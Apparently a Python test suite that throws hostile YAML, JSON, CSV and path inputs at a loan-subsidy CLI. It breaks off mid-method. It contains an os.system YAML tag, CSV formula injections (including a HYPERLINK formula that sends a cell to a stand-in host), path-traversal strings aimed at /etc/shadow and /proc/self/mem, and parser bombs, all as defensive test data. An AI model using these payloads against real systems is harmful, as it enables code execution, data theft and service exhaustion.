"""Hostile inputs (X-1, X-2, X-3, X-4, C-6, P-2): YAML, JSON and CSV made to break, to exhaust, to be followed or to be run.
Each call has 1 GiB of addresses (where the program is not sanitized) and 20 seconds."""
import csv
import functools
import gzip
import io
import json
import os
import re
import resource
import shutil
import signal
import subprocess
import tempfile
import time
import unittest
import zipfile
from pathlib import Path

from damage import HERE, PROGRAM, SOURCE

GIB = 1 << 30
SECONDS = 20
CONVENTIONS = ("--assume", "kr-bank-conventions", "--assume", "incheon-2018-open")
YEARS = ("--years", "2018..2020")
LOAN = ("loan_id,product,principal,rate,disbursed_on,term_months,method,subsidy.payers[0].name,subsidy.payers[0].share,"
        "subsidy_months,bank\n")


@functools.cache
def is_sanitized():
    """AddressSanitizer takes terabytes of addresses for itself."""
    return b"__asan_init" in Path(PROGRAM).read_bytes()


def limits():
    if not is_sanitized():
        resource.setrlimit(resource.RLIMIT_AS, (GIB, GIB))
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))


class Answer:
    def __init__(self, status, out, err, peak, seconds):
        self.status, self.out, self.err, self.peak, self.seconds = status, out, err, peak, seconds

    def text(self):
        return self.out.decode() + self.err.decode()


class Long:
    """A text too long to be held: a child process counts its parent's memory as its own peak."""

    def __init__(self, before, part, times, after=""):
        self.before, self.part, self.times, self.after = before, part, times, after

    def write(self, path):
        many = max(1, 65536 // len(self.part))
        with open(path, "w", encoding="utf-8", newline="") as file:
            file.write(self.before)
            for _ in range(self.times // many):
                file.write(self.part * many)
            file.write(self.part * (self.times % many) + self.after)


class HostileCase(unittest.TestCase):
    maxDiff = None

    def setUp(self):
        self.folder = Path(tempfile.mkdtemp(prefix="icha-hostile-"))
        self.addCleanup(shutil.rmtree, self.folder)

    def write(self, name, data):
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, Long):
            data.write(path)
        else:
            path.write_bytes(data if isinstance(data, bytes) else data.encode())
        return name

    def icha(self, *words, before=(), seconds=SECONDS):
        """The program under its limits; a signal, a sanitizer's finding or a hang fails the test."""
        with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
            begun = time.monotonic()
            running = subprocess.Popen([*before, PROGRAM, *map(str, words)], cwd=self.folder, stdin=subprocess.DEVNULL,
                                       stdout=out, stderr=err, preexec_fn=limits)
            signal.alarm(0)
            while True:
                pid, how, usage = os.wait4(running.pid, os.WNOHANG)
                if pid:
                    break
                if time.monotonic() - begun > seconds * (6 if is_sanitized() else 3):  # the machine may be busy
                    running.kill()
                    running.wait()
                    self.fail(f"hung: {words}")
                time.sleep(0.005)
            running.returncode = os.waitstatus_to_exitcode(how)
            self.assertLess(usage.ru_utime + usage.ru_stime, seconds * (4 if is_sanitized() else 1), words)
            for file in out, err:
                file.seek(0)
            answer = Answer(running.returncode, out.read(), err.read(), usage.ru_maxrss * 1024, time.monotonic() - begun)
        self.assertIn(answer.status, range(7), (words, answer.err[-3000:]))
        self.assertNotIn(b"runtime error", answer.err)
        self.assertNotIn(b"Sanitizer", answer.err)
        return answer

    def refused(self, what, *words, has=b"", peak=None):
        """Exit 3, one sentence or more that name the file or the field, nothing on the standard output."""
        answer = self.icha(*words)
        self.assertEqual((answer.status, answer.out), (3, b""), (what, answer.err[:2000]))
        self.assertTrue(answer.err.startswith(b"icha: "), what)
        self.assertLess(len(answer.err), 4 << 20, what)
        self.assertIn(has, answer.err, what)
        self.assertEqual(answer.err.decode().isprintable() or "\n" in answer.err.decode(), True, what)
        if peak and not is_sanitized():
            self.assertLess(answer.peak, peak, (what, answer.peak))
        return answer


# ---- YAML ----

SOURCE_FILE = "source: test-source\ntitle: {{en: {title}, ko: t}}\npublisher: p\ndated: 2018-01-01\nknown_from: 2018-01-01\nlocator: l\n"
BOMBS = {
    "nested lists": "a: " + "[" * 100_000 + "]" * 100_000,
    "nested maps": "{a: " * 100_000 + "1" + "}" * 100_000,
    "nested blocks": "".join(" " * depth + "a:\n" for depth in range(2_000)),
    "dashes": "- " * 100_000,
    "unclosed brackets": "a: " + "[" * 1_000_000,
    "aliases": "a0: &a0 [x]\n" + "".join(f"a{n}: &a{n} [{', '.join(['*a%d' % (n - 1)] * 10)}]\n" for n in range(1, 30)),
    "an anchor of its own": "a: &a [*a]\n",
    "merge keys": "a: &a {b: 1}\nc: {<<: *a, <<: *a}\n",
    "a million keys": "".join(f"k{n}: 1\n" for n in range(300_000)),
    "a hundred thousand questions": "? " * 100_000,
    "a key a megabyte long": "a" * 1_000_000 + ": 1\n",
    "three megabytes of text": "title: " + "a" * 3_000_000 + "\n",
    "three megabytes quoted": 'title: "' + "\\x41" * 750_000 + '"\n',
    "a folded scalar": "title: >\n" + " a\n" * 500_000,
    "many documents": "---\n" * 500_000,
    "many directives": "%TAG ! tag:x,2018:\n" * 100_000,
    "comments": "#\n" * 2_000_000,
    "tabs": "\t" * 100_000 + "a: 1\n",
    "the largest file": "title: " + "#" * (4 * 1024 * 1024 - 7),
    "one byte more": "title: " + "#" * (4 * 1024 * 1024 - 6),
}
UNTYPED = {  # what other readers of YAML take for something else than text; here it is text, and no kind of title
    "a python object": "!!python/object/apply:os.system ['touch canary']", "a binary": "!!binary aWNoYQ==", "a tag": "!x y",
    "a verbatim tag": "!<tag:yaml.org,2002:int> 5", "an anchor": "&a x", "an alias": "*a", "a merge key": "{<<: {a: 1}}",
    "a list": "[x]", "nothing": "", "a tilde": "~", "null": "null",
    "a complex key": "{? [a, b] : c}", "a set": "!!set {a, b}", "a reserved sign": "@x", "a backtick": "`x`",
}
PLAIN_RATES = ("no", "on", "yes", "0o17", "017", "0x1F", "1e400", "1e-400", ".inf", "-.inf", ".nan", "1_000", "2억5천", "１％",
               "1 %", "1,5%", "1.5%%", "1:30", "2018-01-01", "1.0000000001%", "9" * 4000 + "%", "0." + "0" * 4000 + "1%",
               "1e9%", "NaN%", "١%")


class YamlTest(HostileCase):
    """C-6, X-3: the loader of catalogues and scenarios is one; both doors are tried."""

    def check_both(self, what, data):
        name = self.write("hostile.yaml", data)
        for words in ("catalogue", "check", name), ("scenario", "check", name), ("scenario", "run", name, "--out", "x"):
            answer = self.icha(*words)
            self.assertEqual(answer.status, 3, (what, words))
            said = answer.out + answer.err
            self.assertIn(b"hostile.yaml", said, (what, words))
            self.assertLess(len(said), 4 << 20, (what, words))
            if not is_sanitized():
                self.assertLess(answer.peak, 256 << 20, (what, words))
        self.assertFalse((self.folder / "x").exists(), what)

    def test_bombs(self):
        """C-6, X-3: depth, width and length end at their limits."""
        for what, text in BOMBS.items():
            self.check_both(what, text)

    def test_a_hundred_megabytes(self):
        """X-3: a file larger than the limit is not read."""
        self.check_both("100 MB", Long("title: ", "a", 100_000_000))

    def test_encodings(self):
        """C-6: bytes that are no UTF-8, surrogates, overlong forms, NUL; UTF-16 is another spelling or refused."""
        text = SOURCE_FILE.format(title="제목")
        whole = text.encode()
        for what, data in {
                "NUL in the middle": whole.replace(b"p\n", b"p\0\n", 1), "NUL at the end": whole + b"\0",
                "invalid": whole.replace(b"publisher: p", b"publisher: \xff\xfe"), "cut": whole[:-1] + b"\xec\xa0",
                "overlong slash": whole.replace(b"locator: l", b"locator: \xc0\xaf"),
                "overlong NUL": whole.replace(b"locator: l", b"locator: \xc0\x80"),
                "surrogates": whole.replace(b"locator: l", b"locator: \xed\xa0\x80\xed\xb0\x80"),
                "beyond Unicode": whole.replace(b"locator: l", b"locator: \xf4\x90\x80\x80"),
                "CP949": text.encode("cp949"), "a surrogate's escape": whole.replace(b"locator: l", b'locator: "\\uD800"'),
                "NUL's escape": whole.replace(b"locator: l", b'locator: "\\0"'),
                "an escape's escape": whole.replace(b"locator: l", b'locator: "\\e[2J"'),
                "BOM in the middle": whole.replace(b"locator: l", b"\xef\xbb\xbflocator: l"),
                "odd UTF-16": text.encode("utf-16") + b"\n", "UTF-16 without its mark": text.encode("utf-16-le"),
                "half a pair": text.encode("utf-16-le").join([b"\xff\xfe", b"\x00\xd8\n\0"]),
                "UTF-16": text.encode("utf-16"), "UTF-32": text.encode("utf-32"), "two marks": b"\xef\xbb\xbf" * 2 + whole}.items():
            answer = self.icha("catalogue", "check", self.write("hostile.yaml", data))
            self.assertEqual(answer.status, 3, what)
            self.assertIn(b"hostile.yaml", answer.out, what)

    def test_a_byte_order_mark_is_no_fault(self):
        """C-6: what Windows' editors write; places and offsets are those of the file."""
        whole = SOURCE_FILE.format(title="제목").encode()
        for data in whole, b"\xef\xbb\xbf" + whole, whole.replace(b"\n", b"\r\n"):
            self.assertEqual(self.icha("catalogue", "check", self.write("good.yaml", data)).status, 0)
        for before, where in (b"", 8), (b"\xef\xbb\xbf", 8):
            answer = self.icha("catalogue", "check", self.write("bad.yaml", before + b"source: _\n"), "--format", "table")
            self.assertIn(f"bad.yaml:1:{where + 1}: ".encode(), answer.out)
        answer = self.icha("catalogue", "check", self.write("bad.yaml", b"\xef\xbb\xbfa: \xff\n"), "--format", "table")
        self.assertIn(b"bad.yaml:1:4: not text at byte offset 6", answer.out)

    def test_types_that_yaml_would_guess(self):
        """C-6, N-2: no tag, no boolean, octal, float or date is guessed."""
        for what, title in UNTYPED.items():
            answer = self.icha("catalogue", "check", self.write("hostile.yaml", SOURCE_FILE.format(title=title)))
            self.assertEqual(answer.status, 3, (what, answer.out))
        good = (SOURCE / "examples" / "scenarios" / "half-a-point.yaml").read_text()
        for rate in PLAIN_RATES:
            answer = self.icha("scenario", "check", self.write("hostile.yaml", good.replace('add: "-0.5%"', f"add: {rate}")))
            self.assertEqual(answer.status, 3, rate[:20])
            self.assertIn(b"hostile.yaml", answer.out + answer.err, rate[:20])
        self.assertFalse((self.folder / "canary").exists())

    def test_one_key_in_several_spellings(self):
        """C-6: quoted or escaped, it is the same key, given twice."""
        text = SOURCE_FILE.format(title="t")
        for again in ("title: u", '"title": u', "'title': u", '"\\x74itle": u', '"\\u0074itle": u', "? title\n: u", "title : u"):
            answer = self.icha("catalogue", "check", self.write("hostile.yaml", text + again + "\n"))
            self.assertEqual(answer.status, 3, again)
            self.assertIn(b"title", answer.out, again)
        for other in "Title: u", "title\u200b: u", "ｔｉｔｌｅ: u", "tit\u0131e: u":  # no key at all
            self.assertEqual(self.icha("catalogue", "check", self.write("hostile.yaml", text + other + "\n")).status, 3, other)


# ---- JSON ----

def json_bombs(good, key):
    """Texts that no document may be made of; `key` is a member whose value they spoil."""
    text = json.dumps(good, ensure_ascii=False)

    def put(value):
        return text.replace(json.dumps({key: good[key]})[1:-1], f'"{key}": {value}')
    return {
        "a million brackets": "[" * 1_000_000, "a million braces": '{"a":' * 1_000_000, "closed again": "[" * 500_000 + "]" * 500_000,
        "deep in a member": put("[" * 100_000 + "]" * 100_000), "a hundred thousand digits": put("1" * 100_000),
        "digits behind the point": put("1." + "1" * 100_000), "a huge exponent": put("1e999999999"), "a tiny one": put("1e-999999999"),
        "1e400": put("1e400"), "-1e400": put("-1e400"), "2^63": put("9223372036854775808"), "2^63 - 1": put("9223372036854775807"),
        "-2^63": put("-9223372036854775808"), "-2^63 - 1": put("-9223372036854775809"), "-0": put("-0"), "-0.0": put("-0.0"),
        "a float": put("1.5"), "a whole float": put("25000000.0"), "NaN": put("NaN"), "Infinity": put("Infinity"), "hexadecimal": put("0x10"), "octal": put("017"),
        "plus": put("+1"), "true": put("true"), "null": put("null"), "a key twice": text[:-1] + f', "{key}": {json.dumps(good[key])}}}',
        "a key twice by its escape": text[:-1] + f', "\\u{ord(key[0]):04x}{key[1:]}": {json.dumps(good[key])}}}',
        "a lone surrogate": put('"\\ud800"'), "the other one": put('"\\udc00"'), "NUL": put('"\\u0000"'), "a raw NUL": put('"a\0b"'),
        "NUL behind": text + "\0", "a raw newline": put('"a\nb"'), "a trailing comma": text[:-1] + ",}", "a comment": "/* */" + text,
        "a line's comment": text + "// x", "single quotes": text.replace('"', "'"), "two marks": "\ufeff\ufeff" + text, "two documents": text * 2,
        "behind it": text + "]", "a list": "[" + text + "]", "a text": '"x"', "a number": "5", "nothing": "", "blanks": " " * 1_000_000,
        "a million members": "{" + ", ".join(f'"k{n}": 1' for n in range(400_000)) + "}",
        "a long key": text[:-1] + ', "' + "k" * 1_000_000 + '": 1}', "a long text": put('"' + "9" * 10_000_000 + '"'),
        "escapes": put('"' + "\\u0031" * 1_000_000 + '"'), "an unclosed text": text[:-1] + ', "' + "x" * 10_000_000,
        "full-width digits": put('"２５０００"'), "a text with blanks": put('" 1 "'), "grouped": put('"1,000"'),
    }


class JsonTest(HostileCase):
    """X-1, X-2, X-3: TERMS, FACTS and late interest; numbers are bounded before GMP or MPFR see them."""

    def calls(self):
        terms = json.loads((HERE.parent / "fuzz" / "corpus_terms" / "full.json").read_text())
        late = json.loads((HERE.parent / "fuzz" / "corpus_late" / "sample.json").read_text())
        facts = {"request.amount": 25000000, "credit.grade": 6}
        catalogue = SOURCE / "tests" / "screening" / "catalogue"
        return ((terms, "principal", ("schedule",)), (late, "later_amount", ("late",)),
                (facts, "request.amount", ("screen", "--product", "test.shop-loan", "--on", "2018-03-14", "--catalogue", catalogue)))

    def test_bombs(self):
        """X-1, X-3, N-1: every one is refused with its file, and what is taken is taken for the same number."""
        for good, key, words in self.calls():
            whole = self.icha(*words, self.write("h.json", json.dumps(good)))
            self.assertEqual(self.icha(*words, self.write("h.json", "\ufeff" + json.dumps(good))).out, whole.out)
            for what, text in json_bombs(good, key).items():
                answer = self.icha(*words, self.write("h.json", text.encode("utf-8", "surrogatepass")))
                if what == "-0" and answer.status != 3:  # a number of JSON: it is 0
                    continue
                if what == "null" and key == "principal":  # a key not given
                    self.assertEqual(answer.status, 3)
                    continue
                if what in ("2^63 - 1", "null") and answer.status != 3:
                    self.assertNotEqual(answer.out, whole.out, (words[0], what))
                    self.fail((words[0], what, answer.out[:300]))
                self.assertEqual(answer.status, 3, (words[0], what, answer.out[:300]))
                self.assertRegex(answer.err, rb"^icha: (h\.json|[a-z_.]+): ?", (words[0], what))
                self.assertLess(len(answer.err), 100_000, (words[0], what))  # 256 faults
                if not is_sanitized():
                    self.assertLess(answer.peak, 400 << 20, (words[0], what))

    def test_rates_beyond_any_operand(self):
        """X-2: texts of numbers that GMP would take gigabytes for are refused as texts."""
        terms = self.calls()[0][0]
        for rate in "1e999999999%", "9" * 1_000_000 + "%", "1/" + "9" * 100_000, "0." + "1" * 100_000 + "x", "1e9bp", "-1%", "%", "1%1":
            for key in "rate", "subsidy_rate":
                self.refused((key, rate[:12]), "schedule", self.write("h.json", json.dumps({**terms, key: rate})), has=key.encode())
        for months in 10 ** 9, 2 ** 31 - 1, 2 ** 31, 2 ** 63 - 1, -1, 0:
            self.refused(months, "schedule", self.write("h.json", json.dumps({**terms, "term_months": months})), has=b"term_months")


# ---- CSV ----

def plain_book(rows, payer="incheon"):
    return LOAN + "".join(f"{loan},incheon.startup,10000000,3.5%,2018-01-15,24,bullet,{payer},1,12,{bank}\n" for loan, bank in rows)


class CsvTest(HostileCase):
    """P-2, X-3: what has no end, no sense or no encoding; rows in = used + held, always."""

    def outlay(self, data, *words, name="h.csv", status=(0, 3, 6), peak=400 << 20):
        shutil.rmtree(self.folder / "out", ignore_errors=True)
        if data is not None:
            self.write(name, data)
        answer = self.icha("outlay", name, *YEARS, *CONVENTIONS, "--out", "out", "--inputs", "none", "--format", "json", *words)
        self.assertIn(answer.status, status, answer.err[:1000])
        if not is_sanitized():
            self.assertLess(answer.peak, peak)
        if answer.status == 3:
            self.assertEqual(sorted(p.name for p in self.folder.iterdir() if p.name in ("out",) or p.name[:6] == ".icha-"), [])
            self.assertIn(b"h.csv", answer.err)
            return answer, None
        said = json.loads(answer.out)
        self.assertEqual(said["rows_in"], said["used"] + said["held"])
        with open(self.folder / "out" / "held.csv", encoding="utf-8", newline="") as file:
            said["reasons"] = list(csv.DictReader(file))
        self.assertEqual(len(said["reasons"]), said["held"])
        return answer, said

    def test_without_end(self):
        """X-3, P-4: 100 MB in one quotation, one line, one cell, or no line end: bounded memory, and a place."""
        book = plain_book([("a", "x")])
        for what, data, rows in (
                ("an open quotation", Long(book + '"', "x", 100_000_000), None),
                ("an open quotation of lines", Long(book + '"', "x\n", 50_000_000), None),
                ("a line", Long(book, "x", 100_000_000, "\n"), 1), ("quoted commas", Long(book + '"', ",", 100_000_000, '"\n'), 1),
                ("commas", Long(book, ",", 100_000_000), 1), ("quotes", Long(book + '"', '""', 50_000_000, '"\n'), 1),
                ("a header", Long("", "x", 100_000_000), None), ("columns", Long("loan_id,product", ",c", 100_000, "\n"), None),
                ("cells", Long(book, ",", 100_000, "\n"), 1), ("NULs", Long(book, "\0", 100_000_000), 1),
                ("CRs", Long(book, "\r", 100_000_000), 1), ("blank lines", Long(book, "\n", 100_000_000), 0),
                ("CRLFs", Long(book, "\r\n", 50_000_000), 0)):
            answer, said = self.outlay(data, peak=400 << 20)
            if rows is None:
                self.assertEqual(answer.status, 3, what)
            else:
                self.assertEqual((said["used"], said["held"]), (1, rows), what)

    def test_many_bad_rows(self):
        """P-4: memory does not grow with the rows, not even with the held ones."""
        peaks = []
        for count in 20_000, 200_000:
            _, said = self.outlay(LOAN + "".join(f"id-{n:09},nix,x,\n" for n in range(count)))
            self.assertEqual(said["held"], count)
            peaks.append(_.peak)
        if not is_sanitized():
            self.assertLess(peaks[1] - peaks[0], 24 << 20, peaks)

    def test_bytes(self):
        """P-1, P-2: encodings mixed, cut, or none; each with an offset or a line."""
        book = plain_book([("a", "은행"), ("b", "x")])
        raw = book.encode()
        for what, data in {"UTF-16": book.encode("utf-16"), "UTF-16 without a mark": book.encode("utf-16-le"), "UTF-32": book.encode("utf-32"),
                           "gzip": gzip.compress(raw * 1000), "a bomb": gzip.compress(b"0" * 100_000_000), "zip": b"PK\3\4" + raw,
                           "an image": b"\x89PNG\r\n\x1a\n" + bytes(1000), "an ELF": Path(PROGRAM).read_bytes()[:100_000],
                           "UTF-8 and CP949": raw + "c,은행".encode("cp949") + b"\xff", "0x80": raw + b"\x80\n", "0xFF": raw + b"\xff\n",
                           "half a character": book.encode("cp949") + b"\xb0", "overlong": raw + b"\xc0\xaf\n", "surrogate": raw + b"\xed\xa0\x80\n",
                           "only a BOM": b"\xef\xbb\xbf", "nothing": b"", "one NUL": b"\0", "a line end": b"\n"}.items():
            answer, said = self.outlay(data)
            self.assertEqual(answer.status, 3, what)
        # 한 byte pairs at the edges of CP949 are characters or an error, never something else
        for pair in (0x8141, 0x81FE, 0xA1A1, 0xC652, 0xC9A1, 0xC9FE, 0xFDFE, 0xFEA1, 0x8C63):
            two = pair.to_bytes(2, "big")
            data = book.encode("cp949").replace("은행".encode("cp949"), two)
            answer, said = self.outlay(data, "--encoding", "cp949")
            try:
                text = two.decode("cp949")
            except UnicodeDecodeError:
                self.assertEqual(answer.status, 3, hex(pair))
                continue
            self.assertEqual(answer.status, 0, hex(pair))
            self.assertIn(text, (self.folder / "out" / "claims.csv").read_text(), hex(pair))

    def test_rows(self):
        """P-2, X-4: control characters, marks, headers and quotations where none belong: the row is held, the others used."""
        good = plain_book([("a", "x")])
        row = good.splitlines()[1]
        for what, line in {"NUL": row.replace("a,", "b\0,", 1), "the header": LOAN.strip(),
                           "CR": row.replace("a,", "b\r,", 1), "a stray quotation": row.replace("a,", 'b"c,', 1), "ESC": row.replace("a,", "\x1b[2J,", 1),
                           "behind a quotation": row.replace("a,", '"b"c,', 1), "cells too few": "b,incheon.startup", "cells too many": row.replace("a,", "b,", 1) + ",",
                           "only commas": "," * 10, "blanks": " ", "a comment": "# b", "another separator": row.replace(",", ";"),
                           "blanks in a number": row.replace("a,", "b,", 1).replace("10000000", " 10000000"), "grouped": row.replace("a,", "b,", 1).replace("10000000", '"10,000,000"'),
                           "full-width": row.replace("a,", "b,", 1).replace("10000000", "１０００"), "an exponent": row.replace("a,", "b,", 1).replace("10000000", "1e7"),
                           "hexadecimal": row.replace("a,", "b,", 1).replace("10000000", "0x10"), "huge": row.replace("a,", "b,", 1).replace("10000000", "9" * 4000),
                           "a formula for a number": row.replace("a,", "b,", 1).replace("10000000", "=1+1")}.items():
            answer, said = self.outlay(good + line + "\n")
            self.assertEqual((answer.status, said["used"], said["held"]), (6, 1, 1), what)
            self.assertTrue(said["reasons"][0]["reason"] and said["reasons"][0]["line"] == "3", what)
        for what, data in {"columns twice": LOAN.replace("bank", "rate"), "no rows": None, "an empty name": LOAN.replace("bank", ""), "a BOM twice": "\ufeff\ufeff" + good,
                           "a quoted line end": good.replace("bank", '"ba\nnk"', 1), "a near name": good.replace("bank", "Bank", 1)}.items():
            if data is None:
                _, said = self.outlay(LOAN)
                self.assertEqual(said["rows_in"], 0)
            else:
                self.assertEqual(self.outlay(data)[0].status, 3, what)

    def test_events_and_claims(self):
        """P-2, S-8: the other tables are read by the same scanner; claims strictly."""
        self.write("h.csv", plain_book([("a", "x")]))
        for what, data in {"an open quotation": 'loan_id,kind,on\n"' + "x" * 10_000_000, "gzip": gzip.compress(b"0" * 1_000_000), "columns": ",".join(f"c{n}" for n in range(100_000)),
                           "nothing": "", "UTF-16": "loan_id,kind,on\n".encode("utf-16")}.items():
            self.write("e.csv", data)
            for option in "--events", "--against":
                answer = self.icha("outlay", "h.csv", *YEARS, *CONVENTIONS, "--out", "out", option, "e.csv")
                self.assertEqual(answer.status, 3, (what, option))
                self.assertIn(b"e.csv", answer.err, (what, option))
        catalogue = SOURCE / "tests" / "screening" / "catalogue"
        for what, data in {"an open quotation": 'applicant_id\n"' + "x" * 10_000_000, "gzip": gzip.compress(b"0" * 1_000_000),
                           "17 MiB": Long("applicant_id\n", "x\n", 9 << 20)}.items():
            answer = self.icha("screen", "--batch", self.write("e.csv", data), "--product", "test.shop-loan", "--on", "2018-03-14", "--catalogue", catalogue)
            self.assertIn(answer.status, (3, 6), what)


# ---- spreadsheets ----

FORMULAS = ("=1+1", "=cmd|'/c calc'!A0", "+82-1", "-2+3", "@SUM(A1)", "\t=1", "'=1", "''=1", "＝1+1", "＋1", "－1", "＠x", "=\"a\"", "-", "%0A=1",
            '=HYPERLINK("http://x/?"&A1)', "=IMPORTXML(1)", "- 1", "-1,5", "=1,2")


def starts_a_formula(cell):
    """A plain number is none; all else that a spreadsheet may run begins with one of these."""
    return cell[:1] in tuple("=+-@\t\r\n＝＋－＠") and not re.fullmatch(r"-[0-9.]+%?", cell)


class SpreadsheetTest(HostileCase):
    """X-4: in CSV a guard stands before them, in a workbook they are texts; what was guarded is read back as it was."""

    def cells_are_harmless(self, what, data):
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        self.assertTrue(rows, what)
        for row in rows:
            for cell in row:
                self.assertFalse(starts_a_formula(cell), (what, cell, row))
        return rows

    def make_run(self):
        """Every formula as loan_id, payer and bank of a loan that is used, and as one that is held."""
        names = [name for name in FORMULAS if "\t" not in name]
        out = io.StringIO()
        writer = csv.writer(out, lineterminator="\n")
        writer.writerow(LOAN.strip().split(","))
        for name in names:
            writer.writerow([name, "incheon.startup", 10000000, "3.5%", "2018-01-15", 24, "bullet", name, 1, 12, name])
            writer.writerow([name + "-held", name, 10000000, "3.5%", "2018-01-15", 24, "bullet", name, 1, 12, name])
        self.write("=book.csv", out.getvalue())
        answer = self.icha("outlay", "=book.csv", *YEARS, *CONVENTIONS, "--rows", "--out", "run", "--by", "product,payer,year,bank", "--format", "csv")
        self.assertEqual(answer.status, 6, answer.err)
        self.cells_are_harmless("outlay", answer.out)
        return names

    def test_tables_of_a_run(self):
        """X-4, M-2, M-4: outlay, claims, rows, held and corrections; replay, prove and report tie out over them."""
        names = self.make_run()
        for name in "outlay.csv", "claims.csv", "rows.csv", "held.csv":
            rows = self.cells_are_harmless(name, (self.folder / "run" / name).read_bytes())
            shown = {cell for row in rows for cell in row}
            for formula in names:  # nothing is lost but for the guard
                self.assertTrue(any(cell.lstrip("'").startswith(formula.lstrip("'")) for cell in shown), (name, formula))
        for words in ("verify", "run", "--replay"), ("replay", "run"), ("prove", "run", "--all"):
            answer = self.icha(*words, "--format", "csv")
            self.assertEqual(answer.status, 0, (words, answer.out, answer.err))
            self.cells_are_harmless(words, answer.out)
        # the claims of this run as paid claims: what was guarded is the same payer and bank again
        answer = self.icha("outlay", "=book.csv", *YEARS, *CONVENTIONS, "--out", "again", "--against", "run/claims.csv", "--format", "json")
        self.assertEqual((answer.status, json.loads(answer.out)["corrections"].get("withheld") is None), (6, False))
        for name in names:
            answer = self.icha("explain", "run", f"--loan={name}", "--format", "csv")
            self.assertEqual(answer.status, 0, (name, answer.err))
            self.cells_are_harmless("explain", answer.out)

    def test_reports(self):
        """X-4, A-5: the long table and the workbook."""
        self.make_run()
        answer = self.icha("report", "run", "--csv", "r.csv", "--xlsx", "r.xlsx")
        self.assertEqual(answer.status, 0, answer.err)
        self.cells_are_harmless("report --csv", (self.folder / "r.csv").read_bytes())
        self.cells_are_harmless("report", self.icha("report", "run", "--format", "csv").out)
        with zipfile.ZipFile(self.folder / "r.xlsx") as book:
            texts = "".join(book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/"))
            self.assertFalse(re.search(r"<f[ >]|<ddeLink|<oleLink|<hyperlink", texts))  # no cell is computed, none leads away
            self.assertFalse([name for name in book.namelist() if "externalLink" in name or "vba" in name.lower()])
            strings = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in book.namelist() else texts
            self.assertIn("=IMPORTXML(1)", strings)  # as text

    def test_answers(self):
        """X-4: applicants, series, faults and findings as CSV on the standard output."""
        catalogue = SOURCE / "tests" / "screening" / "catalogue"
        out = io.StringIO()
        writer = csv.writer(out, lineterminator="\n")
        writer.writerow(["applicant_id", "credit.grade", "business.size"])
        for name in FORMULAS:
            if "\t" not in name:
                writer.writerow([name, 6, name])
        self.write("a.csv", out.getvalue())
        answer = self.icha("screen", "--batch", "a.csv", "--product", "test.shop-loan", "--on", "2018-03-14", "--catalogue", catalogue, "--format", "csv")
        self.assertEqual(answer.status, 6, answer.err)
        self.cells_are_harmless("screen --batch", answer.out)
        for name in FORMULAS:
            self.write("h.yaml", json.dumps({name: name, "source": name}, ensure_ascii=False))
            for words in ("catalogue", "check"), ("scenario", "check"):
                answer = self.icha(*words, "h.yaml", "--format", "csv")
                self.assertEqual(answer.status, 3)
                self.cells_are_harmless((words, name), answer.out)
        self.make_run()
        for name in FORMULAS:
            (self.folder / "run" / name.replace("/", "_")).write_bytes(b"")
        answer = self.icha("verify", "run", "--format", "csv")
        self.assertEqual(answer.status, 1)
        self.cells_are_harmless("verify", answer.out)

    def test_published_figures(self):
        """X-4, A-5: texts of a scenario in published.csv; what stands there is read back as it was written."""
        good = (SOURCE / "examples" / "scenarios" / "half-a-point.yaml").read_text().replace("1000000000", "20000000")
        figures = "".join(f"""
  - id: f{number}
    what: {{en: {json.dumps(name, ensure_ascii=False)}, ko: {json.dumps(name, ensure_ascii=False)}}}
    unit: won
    says: 1
    source: {{document: plan-2018, line: 619, quote: "300백만원"}}
    model: unknown
    why: {{en: {json.dumps(name, ensure_ascii=False)}, ko: "-"}}""" for number, name in enumerate(FORMULAS) if name == name.strip())
        self.write("s.yaml", good + "published:" + figures + "\n")
        answer = self.icha("scenario", "run", "s.yaml", "--out", "run", "--format", "csv")
        self.assertEqual(answer.status, 0, answer.err)
        self.cells_are_harmless("published.csv", (self.folder / "run" / "published.csv").read_bytes())
        answer = self.icha("report", "run", "--format", "json")
        self.assertEqual(answer.status, 0, answer.err)
        shown = {row["what"] for row in json.loads(answer.out)["published"]}
        self.assertEqual(shown, {name for name in FORMULAS if name == name.strip()})
        self.assertEqual(self.icha("replay", "run").status, 0)
        self.assertEqual(self.icha("prove", "run", "--all").status, 0)


# ---- paths ----

@functools.cache
def can_trace():
    try:
        return subprocess.run(["strace", "-o", "/dev/null", "true"], capture_output=True, check=False).returncode == 0
    except OSError:
        return False


class PathTest(HostileCase):
    """X-4: no path from data is followed. The canary is a pipe: who opens it waits for ever; where strace may be used, it
    shows too that nothing tried."""

    def setUp(self):
        super().setUp()
        (self.folder / "inner").mkdir()
        os.mkfifo(self.folder / "canary")
        os.mkfifo(self.folder / "canary.yaml")
        os.mkfifo(self.folder / "canary.csv")
        self.tricks = ["../canary", "../canary.yaml", "../canary.csv", f"{self.folder}/canary.yaml", f"{self.folder}/canary.csv", "./../canary.csv",
                       f"file:{self.folder}/canary", f"file://{self.folder}/canary.csv", "..", ".", "/", "/dev/zero", "/proc/self/mem", "~/canary",
                       "../../../../../../etc/shadow", "$HOME/canary", "`cat ../canary`", "canary.csv%00.yaml", "..\\canary", "|cat ../canary",
                       "/dev/stdin", "/dev/fd/0", "http://x/canary"]

    def closed(self, *words, status=range(7)):
        """The call in `inner`; it opens neither the canary nor anything that a trick names."""
        log = self.folder / "opened"
        before = ["strace", "-f", "-qq", "-e", "trace=open,openat,openat2,connect,execve", "-o", str(log)] if can_trace() else []
        os_words = [*before, PROGRAM, *map(str, words)]
        done = subprocess.run(os_words, cwd=self.folder / "inner", stdin=subprocess.DEVNULL, capture_output=True, timeout=6 * SECONDS)
        self.assertIn(done.returncode, status, (words, done.stderr))
        if before:
            calls = log.read_text(errors="replace").splitlines()
            opened = [line.split('"')[1] for line in calls if '"' in line]
            self.assertTrue(opened)
            for path in opened:
                self.assertNotIn("canary", path, words)
                self.assertFalse(path.startswith(("/etc/shadow", "/dev/zero", "/proc/self/mem", "/dev/stdin", "/dev/fd", "~")), (words, path))
            self.assertEqual(sum("execve(" in line for line in calls), 1, words)
            self.assertFalse([line for line in calls if "connect(" in line and "nscd" not in line], words)
        return done

    def inner(self, name, text):
        return self.write(f"inner/{name}", text)[len("inner/"):]

    def test_portfolio_and_events(self):
        """Every cell that a path may stand in: ids, product, payer, bank, index series, reason."""
        out = io.StringIO()
